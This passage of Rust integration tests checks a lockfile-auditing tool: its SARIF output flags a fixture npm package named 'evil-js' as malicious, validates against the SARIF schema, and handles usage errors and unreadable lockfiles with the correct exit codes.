fn sarif_is_valid_and_points_at_the_lockfile_and_the_behaviour() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut pkgs = npm_clean();
    pkgs.push(fixtures::npm_evil());
    let lock = npm_lock_v3(&registry, &pkgs, true);
    std::fs::write(project.join("package-lock.json"), &lock).unwrap();
    std::fs::write(
        project.join("requirements.txt"),
        format!("--index-url {}\nbeta-lib>=1\n", registry.pypi_url()),
    )
    .unwrap();
    let out = audit(&dirs, &project, &["--sarif"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let log: Value = serde_json::from_str(&out.stdout).unwrap_or_else(|e| panic!("{e}\n{out}"));

    let mut schema: Value = serde_json::from_str(
        &std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/schemas/sarif-2.1.0-rtm.5.json"),
        )
        .unwrap(),
    )
    .unwrap();
    // rtm.5's `language` patterns have a stray `]` that ECMA-262 regular expressions (what
    // the meta-schema's `format: regex` checks, with formats validated) reject; they are
    // corrected here, in memory, so that every other format (`uri`, `uri-reference`, …) is
    // still checked. The log has no `language`, so the pattern decides nothing about it.
    fn fix(value: &mut Value, fixed: &mut usize) {
        match value {
            Value::String(s) if s == "^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$" => {
                *s = "^[a-zA-Z]{2}(-[a-zA-Z]{2})?$".to_owned();
                *fixed += 1;
            }
            Value::Array(items) => items.iter_mut().for_each(|v| fix(v, fixed)),
            Value::Object(map) => map.values_mut().for_each(|v| fix(v, fixed)),
            _ => {}
        }
    }
    let mut fixed = 0;
    fix(&mut schema, &mut fixed);
    assert_eq!(fixed, 2, "the vendored schema changed");
    let validator = jsonschema::options()
        .with_draft(jsonschema::Draft::Draft4)
        .should_validate_formats(true)
        .build(&schema)
        .expect("the vendored schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(&log)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}\n{out}");
    // The validator is not a rubber stamp: a log without its version fails.
    let mut broken = log.clone();
    broken.as_object_mut().unwrap().remove("version");
    assert!(!validator.is_valid(&broken));

    let run = &log["runs"][0];
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 2, "one flagged, one unjudged\n{out}");
    let evil = results
        .iter()
        .find(|r| r["ruleId"] == "cerebro/malicious")
        .unwrap();
    assert_eq!(evil["level"], "error");
    let place = &evil["locations"][0]["physicalLocation"];
    assert_eq!(place["artifactLocation"]["uri"], "package-lock.json");
    assert_eq!(
        place["region"]["startLine"],
        line_with(&lock, &format!("\"node_modules/{}\"", NPM_EVIL.0))
    );
    let related = evil["relatedLocations"].as_array().expect("related");
    assert!(
        related.iter().any(|r| {
            let uri = r["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .unwrap_or("");
            uri.starts_with("pkg:npm/evil-js@2.1.0#")
                && r["physicalLocation"]["region"]["startLine"].as_u64() > Some(0)
        }),
        "{related:#?}"
    );
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let index = evil["ruleIndex"].as_u64().unwrap() as usize;
    assert_eq!(rules[index]["id"], "cerebro/malicious");
    let unjudged = results
        .iter()
        .find(|r| r["ruleId"] == "cerebro/unjudged")
        .unwrap();
    assert_eq!(
        unjudged["locations"][0]["physicalLocation"]["region"]["startLine"],
        2
    );
    assert_nothing_ran(&dirs, &out);
}

#[test]
fn nothing_to_audit_is_a_usage_error() {
    let (dirs, project) = sandbox();
    let out = audit(&dirs, &project, &[]);
    assert_eq!(out.code, Some(EXIT_USAGE), "{out}");
    assert!(out.stderr.contains("no lockfile"), "{out}");
    let out = audit(&dirs, &project, &["missing.lock"]);
    assert_eq!(out.code, Some(EXIT_USAGE), "{out}");
    assert!(out.stderr.contains("missing.lock"), "{out}");
}

#[test]
fn an_unreadable_lockfile_is_named_and_exits_1() {
    let (dirs, project) = sandbox();
    std::fs::write(
        project.join("package-lock.json"),
        "{\n  \"lockfileVersion\": 3,\n",
    )
    .unwrap();
    let before = std::fs::read(project.join("package-lock.json")).unwrap();
    let out = audit(&dirs, &project, &[]);
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{out}");
    assert!(
        out.stdout.contains("package-lock.json") && out.stdout.contains("not valid JSON"),
        "{out}"
    );
    assert_eq!(
        std::fs::read(project.join("package-lock.json")).unwrap(),
        before
    );
}
